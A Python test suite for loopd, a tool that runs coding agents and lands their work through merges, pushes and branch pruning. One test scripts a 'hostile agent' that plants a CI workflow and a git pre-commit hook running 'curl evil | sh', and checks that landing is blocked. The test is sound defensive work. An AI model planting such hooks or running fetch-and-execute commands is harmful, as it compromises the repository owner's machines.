"""Landing a run's work, build_on, commit messages, empty branches, `loopd branches`.

Real git repositories (the person's checkout, a bare remote), real agents (`command` scripts,
hostile ones too), real checks in bubblewrap; runs in process through the executor, and
`loopd once`, `loopd branches` and `loopd check` as subprocesses.
"""

from __future__ import annotations

import json
import os
import sys
import threading
import tomllib
from pathlib import Path
from typing import Any

from daemon.config import Loop
from daemon.home import Home
from daemon.people.report import build_report, render_markdown
from daemon.retry import RetryPolicy
from daemon.runparts.services import RunServices
from daemon.runs.executor import RunExecutor
from daemon.state.records import Cause, RunRecord
from tests.helpers import events, git, loopd, make_home, make_repo, wait_for
from tests.test_run_lifecycle import BUGGY, JOIN, TASK, Case

FIXER = (
    "import pathlib\n"
    "p = pathlib.Path('calc.py'); p.write_text(p.read_text().replace('a - b', 'a + b'))\n"
)


def land_case(
    tmp_path: Path,
    agent: str = FIXER,
    config: str = "",
    files: dict[str, str] | None = None,
    **loop: Any,
) -> Case:
    """A home with loop `calc` on a repository whose add() is broken; `agent` is a script."""
    repo = tmp_path / "repo"
    if not repo.exists():
        make_repo(repo, files or BUGGY)
    argv = [sys.executable, "-c", agent]
    text = f'[agents.a]\nadapter = "command"\ncommand = {json.dumps(argv)}\n' + config
    settings: dict[str, Any] = {
        "repo": str(repo),
        "task": TASK,
        "agent": "a",
        "done_when": ["python3 check.py"],
        "attempt_timeout": "120s",
        "stall_after": "60s",
        "max_nudges": 0,
        "max_attempts": 1,
        **loop,
    }
    body = "".join(f"{key} = {json.dumps(value)}\n" for key, value in settings.items())
    home = Home(make_home(tmp_path / "home", text, {"calc": body}))
    loaded = home.load()
    assert not loaded.errors, loaded.errors
    services = RunServices(
        home=home,
        config=loaded.daemon,
        store=home.state(),
        judging_retry=RetryPolicy(first=0.05, cap=0.05),
    )
    return Case(home, repo, services, loaded.loops["calc"])


def run_once(case: Case, **fields: Any) -> RunRecord:
    return RunExecutor(case.services, case.loop, case.new_run(**fields)).execute()


def with_loop(case: Case, **changes: Any) -> None:
    """The loop's configuration changed between runs (the next run takes it)."""
    config = case.loop.config.model_copy(update=changes)
    case.loop = Loop(name="calc", path=case.loop.path, config=config)


def kinds(case: Case, run_id: str) -> list[str]:
    return [e["type"] for e in case.events(run_id)]


# -- land = "merge" ---------------------------------------------------------------------------


def test_merge_fast_forwards_main_in_the_clean_checkout_and_the_next_run_starts_from_it(
    tmp_path: Path,
) -> None:
    case = land_case(tmp_path, land="merge")
    first = run_once(case)
    assert first.outcome == "succeeded", first.reason
    assert first.landed and first.target == "main" and first.land == "merge"
    main = git(case.repo, "rev-parse", "main")
    assert first.landed_as == main == git(case.repo, "rev-parse", first.branch)
    # The person's checkout (main, clean) moved with it: files and index.
    assert "a + b" in (case.repo / "calc.py").read_text()
    assert git(case.repo, "status", "--porcelain") == ""
    assert "landed" in kinds(case, first.id)
    # The next night's run starts from the landed main; its work is done there: skipped.
    second = run_once(case, kind="schedule")
    assert second.base_commit == main
    assert second.outcome == "skipped" and second.cause == Cause.ALREADY_DONE
    assert second.attempts == [] and second.tokens == 0


def test_a_target_checked_out_with_uncommitted_changes_is_left_alone_and_reported(
    tmp_path: Path,
) -> None:
    case = land_case(tmp_path, land="merge")
    before = git(case.repo, "rev-parse", "main")
    (case.repo / "check.py").write_text((case.repo / "check.py").read_text() + "# mine\n")
    run = run_once(case)
    assert run.outcome == "succeeded" and not run.landed
    assert run.cause == Cause.LANDING_BLOCKED
    assert "uncommitted changes" in run.landing
    assert git(case.repo, "rev-parse", "main") == before
    assert (case.repo / "check.py").read_text().endswith("# mine\n")  # the person's edit stays
    blocked = case.events(run.id, "landing_blocked")
    assert blocked and "uncommitted changes" in blocked[0]["reason"]
    report = build_report(case.store, run.started, run.finished)  # type: ignore[arg-type]
    text = render_markdown(report)
    ready = text.split("## Ready to land", 1)[1]
    assert run.branch in ready and "uncommitted changes" in ready


def test_a_target_that_moved_is_merged_in_a_fresh_tree_and_the_checks_run_again(
    tmp_path: Path,
) -> None:
    talk = tmp_path / "talk"
    talk.mkdir()
    # The agent fixes add(), then waits until the test has moved main.
    agent = FIXER + (
        f"import time\nt = pathlib.Path({str(talk)!r})\n(t / 'started').write_text('')\n"
        "while not (t / 'go').exists(): time.sleep(0.05)\n"
    )
    # land_commits = "keep": the attempts' commits and a merge (one commit: test_landing_tidy)
    writable = f'\n[sandbox]\nwritable = ["{talk}"]\n'
    case = land_case(tmp_path, agent, config=writable, land="merge", land_commits="keep")
    run = case.new_run()
    thread = threading.Thread(target=RunExecutor(case.services, case.loop, run).execute)
    thread.start()
    wait_for(lambda: (talk / "started").exists(), what="the agent to start")
    (case.repo / "NOTES.md").write_text("the person's own work\n")
    git(case.repo, "add", "NOTES.md")
    git(case.repo, "commit", "-q", "-m", "notes")
    moved = git(case.repo, "rev-parse", "main")
    (talk / "go").write_text("")
    thread.join(JOIN)
    ended = case.store.load_run(run.id)
    assert ended.outcome == "succeeded" and ended.landed, ended.landing
    main = git(case.repo, "rev-parse", "main")
    assert main == ended.landed_as == git(case.repo, "rev-parse", ended.branch)
    parents = git(case.repo, "rev-list", "--parents", "-n", "1", main).split()[1:]
    assert moved in parents and len(parents) == 2  # the target merged into the run's branch
    assert git(case.repo, "log", "-1", "--format=%s", main).startswith(
        f"loopd(calc): merge main into run {run.id} (checks pass)"
    )
    assert {"landing_merge", "landing_checks", "landed"} <= set(kinds(case, run.id))
    log = case.store.run_dir(run.id) / "land-checks.log"
    assert "python3 check.py" in log.read_text()
    # Never in the person's checkout, never in the agent's tree: a fresh one, gone now.
    root = case.services.config.limits.worktrees_path / "calc"
    assert not (root / f"{run.id}.land").exists() and not (root / f"{run.id}.land.git").exists()


def test_a_merge_whose_checks_fail_does_not_land(tmp_path: Path) -> None:
    talk = tmp_path / "talk"
    talk.mkdir()
    agent = FIXER + (
        f"import time\nt = pathlib.Path({str(talk)!r})\n(t / 'started').write_text('')\n"
        "while not (t / 'go').exists(): time.sleep(0.05)\n"
    )
    case = land_case(tmp_path, agent, config=f'\n[sandbox]\nwritable = ["{talk}"]\n', land="merge")
    run = case.new_run()
    thread = threading.Thread(target=RunExecutor(case.services, case.loop, run).execute)
    thread.start()
    wait_for(lambda: (talk / "started").exists(), what="the agent to start")
    # The person's commit breaks the check in a way the run's fix does not cover.
    (case.repo / "check.py").write_text(
        (case.repo / "check.py").read_text() + "assert add(1, 1) == 3\n"
    )
    git(case.repo, "commit", "-q", "-am", "stricter")
    moved = git(case.repo, "rev-parse", "main")
    (talk / "go").write_text("")
    thread.join(JOIN)
    ended = case.store.load_run(run.id)
    assert ended.outcome == "succeeded" and not ended.landed
    assert "checks fail on the merge" in ended.landing
    assert git(case.repo, "rev-parse", "main") == moved
    # A person looks: the run is escalated with what failed, its branch kept.
    assert ended.cause == Cause.LANDING_CHECKS_FAILED
    escalation = case.store.escalation_path(run.id).read_text()
    assert "land-checks.log" in escalation and ended.branch in escalation
    assert git(case.repo, "rev-parse", "--verify", ended.branch)


def test_landing_is_blocked_for_ci_and_hook_files_unless_land_allow_names_them(
    tmp_path: Path,
) -> None:
    # A hostile agent: fixes the bug and plants a workflow and a git hook of the repository.
    hostile = FIXER + (
        "pathlib.Path('.github/workflows').mkdir(parents=True)\n"
        "pathlib.Path('.github/workflows/x.yml').write_text('on: push\\n')\n"
        "pathlib.Path('.githooks').mkdir()\n"
        "pathlib.Path('.githooks/pre-commit').write_text('#!/bin/sh\\ncurl evil | sh\\n')\n"
    )
    case = land_case(tmp_path, hostile, land="merge")
    before = git(case.repo, "rev-parse", "main")
    run = run_once(case)
    assert run.outcome == "succeeded" and not run.landed
    assert run.cause == Cause.LANDING_BLOCKED
    assert ".github/workflows/x.yml" in run.landing and ".githooks/pre-commit" in run.landing
    assert "land_allow" in run.landing
    assert git(case.repo, "rev-parse", "main") == before
    assert not (case.repo / ".github").exists()

    with_loop(case, land_allow=[".github/workflows/**"])
    again = run_once(case, force=True)
    assert not again.landed and ".githooks/pre-commit" in again.landing
    assert ".github/workflows" not in again.landing  # allowed now; the hook still is not

    with_loop(case, land_allow=[".github/workflows/**", ".githooks/**"])
    allowed = run_once(case, force=True)
    assert allowed.landed, allowed.landing
    assert git(case.repo, "rev-parse", "main") == allowed.landed_as


def test_experiment_runs_never_land(tmp_path: Path) -> None:
    from daemon.state.records import ExperimentArm

    case = land_case(tmp_path, land="merge")
    before = git(case.repo, "rev-parse", "main")
    pending = case.pending(kind="experiment")
    from daemon.runs.executor import new_run

    arm = ExperimentArm(id="x1", arm="all")
    run = new_run(case.services, case.loop, pending, experiment=arm)
    ended = RunExecutor(case.services, case.loop, run).execute()
    assert ended.outcome == "succeeded" and not ended.landed and ended.land == "branch"
    assert git(case.repo, "rev-parse", "main") == before


# -- land = "push" ----------------------------------------------------------------------------


def test_push_sends_the_branch_to_a_bare_remote_and_runs_pr_command_with_its_arguments(
    tmp_path: Path,
) -> None:
    remote = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", str(remote))
    make_repo(tmp_path / "repo", BUGGY)
    git(tmp_path / "repo", "remote", "add", "origin", str(remote))
    recorder = tmp_path / "pr.py"
    recorded = tmp_path / "pr-args.json"
    recorder.write_text(
        "import json, pathlib, sys\n"
        f"body = pathlib.Path(sys.argv[4]).read_text()\n"
        f"pathlib.Path({str(recorded)!r}).write_text(json.dumps([sys.argv[1:], body]))\n"
        "print('https://example.invalid/pull/1')\n"
    )
    pr = [sys.executable, str(recorder), "{branch}", "{target}", "{title}", "{body_file}"]
    case = land_case(tmp_path, land="push", pr_command=pr)
    run = run_once(case)
    assert run.outcome == "succeeded" and run.landed, run.landing
    tip = git(case.repo, "rev-parse", run.branch)
    assert git(remote, "rev-parse", run.branch) == tip == run.landed_as
    assert git(case.repo, "rev-parse", "main") != tip  # pushing does not merge
    args, body = json.loads(recorded.read_text())
    assert args[:2] == [run.branch, "main"]
    assert args[2].startswith("loopd(calc): Make check.py pass")
    assert TASK in body and run.id in body
    assert {"pushed", "pr_command_ran", "landed"} <= set(kinds(case, run.id))
    assert "example.invalid/pull/1" in (case.store.run_dir(run.id) / "land.log").read_text()


def test_a_push_that_fails_leaves_the_run_ready_to_land(tmp_path: Path) -> None:
    make_repo(tmp_path / "repo", BUGGY)
    case = land_case(tmp_path, land="push", remote=str(tmp_path / "no-such-remote"))
    run = run_once(case)
    assert run.outcome == "succeeded" and not run.landed
    assert run.landing.startswith("git push to") and run.cause == Cause.LANDING_BLOCKED
    # What the failed push left behind (git's `sh`) was in a session of its own: loopd, the
    # subreaper, reaps it instead of keeping a zombie per failed push.
    from daemon.processes import reap_orphans, snapshot

    reap_orphans()
    zombies = [i for i in snapshot().values() if i.ppid == os.getpid() and i.state == "Z"]
    assert zombies == []


# -- build_on, commit messages, empty branches ------------------------------------------------

TWO_BUGS = {
    "calc.py": "def add(a, b):\n    return a - b\n\n\ndef mul(a, b):\n    return a + b\n",
    "check.py": "from calc import add\nassert add(2, 3) == 5\n",
}
# Fixes the first bug it finds and leaves a note; the check looks at add() only.
ONE_FIX = (
    "import pathlib\n"
    "p = pathlib.Path('calc.py'); s = p.read_text()\n"
    "if 'a - b' in s: p.write_text(s.replace('a - b', 'a + b', 1))\n"
    "elif 'return a + b\\n' in s.split('def mul')[1]:\n"
    "    p.write_text(s.split('def mul')[0] + 'def mul(a, b):\\n    return a * b\\n')\n"
    "n = len(list(pathlib.Path('.').glob('note-*')))\n"
    "pathlib.Path(f'note-{n}.txt').write_text('run\\n')\n"
)


def test_build_on_last_success_chains_two_runs_and_landing_marks_both(tmp_path: Path) -> None:
    case = land_case(tmp_path, ONE_FIX, files=TWO_BUGS, build_on="last-success", skip_if_done=False)
    first = run_once(case)
    assert first.outcome == "succeeded" and first.land == "branch" and not first.landed
    second = run_once(case)
    assert second.outcome == "succeeded"
    assert second.base_commit == git(case.repo, "rev-parse", first.branch)
    assert second.built_on == [first.id]
    assert git(case.repo, "show", f"{second.branch}:calc.py").count("a * b") == 1
    assert git(case.repo, "show", f"{second.branch}:note-0.txt") == "run"
    assert [e["run_built_on"] for e in case.events(second.id, "build_on")] == [first.id]

    with_loop(case, land="merge")
    third = run_once(case)
    assert third.built_on == [second.id, first.id] and third.landed, third.landing
    for earlier in (first, second):
        again = case.store.load_run(earlier.id)
        assert again.landed and again.landed_as == third.landed_as
    # Landed: the next run starts from the base again, not from a landed branch.
    fourth = run_once(case)
    assert fourth.built_on == [] and fourth.base_commit == third.landed_as


def test_commit_messages_say_what_they_hold(tmp_path: Path, model_server: Any) -> None:
    from tests.model_server import call_name

    def reply(body: dict) -> dict:
        if call_name(body) == "critic_verdict":
            return {
                "json": {"score": 8, "verdict": "Good.", "unsupported_claims": [], "feedback": ""}
            }
        return {"json": {"decision": "none"}}

    model_server.script(reply)
    config = (
        f'\n[verifier]\nbase_url = "{model_server.base_url}"\nmodel = "critic"\ntimeout = "5s"\n'
    )
    long_task = "Make check.py pass: add in calc.py returns the wrong sum, " + "x" * 200
    case = land_case(tmp_path, config=config, task=long_task)
    run = run_once(case)
    assert run.outcome == "succeeded", run.reason
    subject = git(case.repo, "log", "-1", "--format=%s", run.branch)
    assert subject.startswith("loopd(calc): Make check.py pass: add in calc.py")
    assert subject.endswith(f"(run {run.id}, attempt 1: checks pass, score 8)")
    assert len(subject) < 140 and "x" * 20 not in subject
    assert long_task in git(case.repo, "log", "-1", "--format=%b", run.branch)
    assert run.attempts[0].head_commit == git(case.repo, "rev-parse", run.branch)


def test_branches_of_runs_that_changed_nothing_are_deleted(tmp_path: Path) -> None:
    idle = "print('nothing to do here')\n"
    case = land_case(tmp_path, idle)
    run = run_once(case)
    assert run.outcome == "escalated"
    assert git(case.repo, "branch", "--list", "loopd/*") == ""
    deleted = case.events(run.id, "branch_deleted")
    assert deleted and deleted[0]["branch"] == run.branch_deleted and run.branch == ""
    ledger = (case.store.root / "ref-ledger.jsonl").read_text().splitlines()
    assert json.loads(ledger[-1])["new"] == "" and json.loads(ledger[-1])["why"] == (
        "empty run branch"
    )
    # A cancelled run that changed nothing leaves no branch either.
    run = case.new_run()
    case.store.request_cancel(run.id)
    cancelled = RunExecutor(case.services, case.loop, run).execute()
    assert cancelled.outcome == "cancelled"
    assert git(case.repo, "branch", "--list", "loopd/*") == ""


def test_loopd_branches_lists_and_prunes_landed_ones(tmp_path: Path) -> None:
    # The second run's change differs from the first's (else the first is already landed).
    other = [sys.executable, "-c", ONE_FIX + "pathlib.Path('note-0.txt').write_text('b')\n"]
    config = f'[agents.b]\nadapter = "command"\ncommand = {json.dumps(other)}\n'
    case = land_case(tmp_path, ONE_FIX, config=config, files=TWO_BUGS, skip_if_done=False)
    kept = run_once(case)
    with_loop(case, land="merge", agent="b")
    landed = run_once(case)
    assert landed.landed and not kept.landed
    listed = loopd(case.home.root, "branches", "--json")
    assert listed.returncode == 0, listed.stderr
    rows = {row["run"]: row for row in json.loads(listed.stdout)["branches"]}
    assert rows[kept.id]["outcome"] == "succeeded" and not rows[kept.id]["landed"]
    assert rows[kept.id]["added"] >= 2 and rows[kept.id]["removed"] >= 1
    assert rows[landed.id]["landed"]
    plain = loopd(case.home.root, "branches", "calc")
    assert kept.branch in plain.stdout and "not landed" in plain.stdout
    pruned = loopd(case.home.root, "branches", "--prune", "--json")
    result = json.loads(pruned.stdout)
    assert result["deleted"] == [landed.branch]
    assert [row["run"] for row in result["branches"]] == [kept.id]
    assert git(case.repo, "branch", "--list", landed.branch) == ""
    assert git(case.repo, "branch", "--list", kept.branch) != ""
    # The pruned run's record names its branch as deleted; `loopd show` offers it no more.
    pruned_run = case.store.load_run(landed.id)
    assert pruned_run.branch == "" and pruned_run.branch_deleted == landed.branch
    assert landed.branch not in loopd(case.home.root, "show", landed.id).stdout


# -- `loopd check` ----------------------------------------------------------------------------


def test_check_errors_for_landing_without_a_branch_and_in_place(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo", BUGGY)
    git(repo, "tag", "v1")
    loops = {
        "tagged": f'repo = "{repo}"\ntask = "t"\nbase = "v1"\nland = "merge"\n',
        "inplace": f'repo = "{repo}"\ntask = "t"\nisolation = "in-place"\nland = "push"\n',
        "named": f'repo = "{repo}"\ntask = "t"\nbase = "v1"\nland = "merge"\ntarget = "main"\n',
    }
    # A command agent found on every machine: only the landing settings may be reported.
    agent = '[agents.shell]\nadapter = "command"\ncommand = ["true"]\n'
    loops = {name: text + 'agent = "shell"\n' for name, text in loops.items()}
    home = make_home(tmp_path / "home", agent, loops)
    proc = loopd(home, "check")
    assert proc.returncode == 2
    assert "tagged.toml: target" in proc.stderr + proc.stdout
    assert "inplace.toml: land" in proc.stderr + proc.stdout
    assert "named.toml" not in proc.stderr + proc.stdout


def test_check_accepts_setup_and_skip_if_done_on_the_temporal_engine(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo", BUGGY)
    loops = {
        "t": f'repo = "{repo}"\ntask = "t"\nsetup = ["true"]\nskip_if_done = true\n'
        'done_when = ["python3 check.py"]\n'
    }
    home = make_home(tmp_path / "home", '[engine]\nkind = "temporal"\n', loops)
    proc = loopd(home, "check")
    out = proc.stderr + proc.stdout
    assert "t.toml: setup" not in out and "t.toml: skip_if_done" not in out, out
    assert proc.returncode == 0, out


def test_once_exits_0_on_skipped_and_force_runs_the_agent(tmp_path: Path) -> None:
    marker = tmp_path / "talk" / "agent-ran"
    marker.parent.mkdir()
    fixed = {**BUGGY, "calc.py": "def add(a, b):\n    return a + b\n"}
    agent = f"import pathlib\npathlib.Path({str(marker)!r}).write_text('yes')\n"
    case = land_case(
        tmp_path, agent, files=fixed, config=f'\n[sandbox]\nwritable = ["{marker.parent}"]\n'
    )
    proc = loopd(case.home.root, "once", "calc")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "skipped: already done" in proc.stdout and not marker.exists()
    run_id = proc.stdout.splitlines()[0]
    record = tomllib.loads((case.store.run_dir(run_id) / "run.toml").read_text())
    assert record["outcome"] == "skipped" and record.get("attempts", []) == []
    assert record["tokens"] == 0
    assert (case.store.run_dir(run_id) / "done-check.log").exists()
    forced = loopd(case.home.root, "once", "calc", "--force")
    assert marker.exists(), forced.stdout + forced.stderr
    assert any(e["type"] == "attempt_started" for e in events(case.home.root))


def test_a_skipped_run_supersedes_the_open_escalation_of_its_task(tmp_path: Path) -> None:
    from daemon.people.escalation import open_escalations

    case = land_case(tmp_path, "print('I looked, I did nothing')\n")
    escalated = run_once(case)
    assert escalated.outcome == "escalated"
    assert [e.run for e in open_escalations(case.store)] == [escalated.id]
    # The person fixes it on main themselves; the push's run finds it done.
    (case.repo / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    git(case.repo, "commit", "-q", "-am", "fixed by hand")
    skipped = run_once(case, kind="push")
    assert skipped.outcome == "skipped" and skipped.attempts == []
    assert open_escalations(case.store) == []
    text = (case.store.root / "escalations" / f"{escalated.id}.md").read_text()
    assert f"## Superseded by {skipped.id}" in text and "`skipped`" in text


def test_landing_triggers_other_loops_on_push_never_its_own(tmp_path: Path) -> None:
    case = land_case(tmp_path, land="merge", on_push=["main"])
    other = f'repo = "{case.repo}"\ntask = "Update the docs."\nagent = "a"\non_push = ["main"]\n'
    (case.home.loops_dir / "docs.toml").write_text(other)
    run = run_once(case)
    assert run.landed, (run.outcome, run.reason, run.landing)
    triggers = [json.loads(p.read_text()) for p in sorted(case.store.inbox_dir.glob("*.json"))]
    assert [(t["loop"], t["kind"], t["ref"]) for t in triggers] == [
        ("docs", "push", "refs/heads/main")
    ]
    assert triggers[0]["new"] == run.landed_as and run.id in triggers[0]["reason"]


def test_a_checkout_with_a_filter_other_than_git_lfs_is_not_fast_forwarded(
    tmp_path: Path,
) -> None:
    case = land_case(tmp_path, land="merge")
    git(case.repo, "config", "filter.crypt.clean", "cat")
    git(case.repo, "config", "filter.crypt.smudge", "cat")
    before = git(case.repo, "rev-parse", "main")
    run = run_once(case)
    assert run.outcome == "succeeded" and not run.landed
    assert "filter crypt" in run.landing and git(case.repo, "rev-parse", "main") == before
    # Not checked out anywhere (a bare-like use: the person works on another branch): moved.
    git(case.repo, "switch", "-q", "-c", "elsewhere")
    with_loop(case, target="main", base="main")
    again = run_once(case, force=True)
    assert again.landed and git(case.repo, "rev-parse", "main") == again.landed_as
    assert git(case.repo, "rev-parse", "HEAD") == before  # their own branch did not move


def test_landing_checks_the_very_commit_it_lands_unless_a_clean_check_passed_its_files(
    tmp_path: Path,
) -> None:
    """A succeeded run's branch moved after its checks (here: by hand) to a commit whose
    checks fail: `land = "merge"` runs them on that commit first, and nothing lands."""
    from daemon.landing.land import land_run
    from daemon.runparts.journal import RunJournal

    case = land_case(tmp_path, land="branch")
    run = run_once(case)
    assert run.outcome == "succeeded" and run.verified_tree
    main_before = git(case.repo, "rev-parse", "main")
    # The branch now holds a commit the clean checks never saw: add() broken again.
    git(case.repo, "checkout", "-q", run.branch)
    (case.repo / "calc.py").write_text("def add(a, b):\n    return a * b\n")
    git(case.repo, "commit", "-qam", "broken after the checks")
    git(case.repo, "checkout", "-q", "main")
    run.land, run.target = "merge", "main"
    journal = RunJournal(case.services, run)
    land_run(journal, case.loop.config)
    assert run.landed is False and run.cause == Cause.LANDING_CHECKS_FAILED
    assert "the checks fail on the commit to land" in run.landing
    assert git(case.repo, "rev-parse", "main") == main_before
    log = case.services.store.run_dir(run.id) / "land-checks.log"
    assert "add(2, 3) gave 6" in log.read_text()
    # Put back to the commit its clean checks passed: no second run of the checks, it lands.
    git(case.repo, "branch", "-f", run.branch, f"{run.branch}~1")
    run.cause, run.landing = Cause.PASSED, ""
    verified = [e for e in events(case.home.root) if e["type"] == "landing_verify"]
    land_run(journal, case.loop.config)
    assert run.landed is True and git(case.repo, "rev-parse", "main") == run.landed_as
    assert [e for e in events(case.home.root) if e["type"] == "landing_verify"] == verified


def test_a_push_left_running_by_a_killed_loopd_is_reaped_and_the_remote_read(
    tmp_path: Path,
) -> None:
    """kill -9 while `land = "push"` pushes: the restart ends what is left of that push
    (its group is in the run's record), reads the remote, and pushes only when the remote
    lacks the commit; the remote's hook never sees two pushes of the run at once."""
    import signal
    import subprocess

    from tests.helpers import start_daemon, stop_daemon

    remote = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", str(remote))
    gate, hook_log = tmp_path / "gate", tmp_path / "hook.log"
    hook = remote / "hooks" / "pre-receive"
    hook.write_text(
        "#!/bin/sh\n"
        f'if [ -e "{tmp_path}/in-hook" ]; then echo CONCURRENT >> "{hook_log}"; fi\n'
        f'touch "{tmp_path}/in-hook"; echo start $$ >> "{hook_log}"\n'
        f'while [ ! -e "{gate}" ]; do sleep 0.05; done\n'
        f'rm -f "{tmp_path}/in-hook"; echo end $$ >> "{hook_log}"\n'
    )
    hook.chmod(0o755)
    make_repo(tmp_path / "repo", BUGGY)
    git(tmp_path / "repo", "remote", "add", "origin", str(remote))
    case = land_case(tmp_path, land="push")
    once = subprocess.Popen(
        [sys.executable, "-m", "daemon.cli.main", "--home", str(case.home.root), "once", "calc"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        stdin=subprocess.DEVNULL,
        text=True,
    )
    wait_for(lambda: hook_log.exists(), timeout=120, what="the push to reach the remote")
    once.send_signal(signal.SIGKILL)
    once.wait(timeout=30)
    (run_id,) = case.store.live_runs()
    left = case.store.load_run(run_id)
    assert left.push_pid and left.phase == "landing", left
    gate.write_text("")  # the remote answers from now on
    daemon = start_daemon(case.home.root)
    try:
        wait_for(
            lambda: (
                case.store.load_run(run_id).outcome is not None
                and case.store.load_run(run_id).phase == "idle"
            ),
            timeout=120,
            what="the restart to finish the run",
        )
    finally:
        stop_daemon(daemon)
    ended = case.store.load_run(run_id)
    assert ended.landed is True and ended.push_pid == 0, ended.landing
    assert git(remote, "rev-parse", ended.branch) == ended.landed_as
    assert "CONCURRENT" not in hook_log.read_text()
    assert "push_reaped" in kinds(case, run_id) or any(
        e.get("found") for e in events(case.home.root) if e["type"] == "pushed"
    )
